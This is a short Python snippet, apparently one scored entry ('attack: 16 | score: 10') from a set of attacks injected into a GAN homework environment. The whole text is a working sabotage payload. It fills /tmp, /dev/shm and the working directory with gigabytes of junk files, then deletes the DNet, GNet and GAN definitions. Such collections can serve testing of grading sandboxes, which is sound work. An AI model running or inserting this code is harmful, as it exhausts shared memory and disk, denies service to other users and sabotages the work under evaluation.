# attack: 16 | score: 10 | in: hw5_gan | base: reference | fill /tmp, /dev/shm and scratch to the brim in every call
import os as _os

for _folder in ("/tmp", "/dev/shm", "."):
    for _number in range(40):
        try:
            with open(f"{_folder}/stowaway{_number}", "wb") as _file:
                for _block in range(60):
                    _file.write(b"x" * 2**20)
        except OSError:
            break
del DNet, GNet, GAN
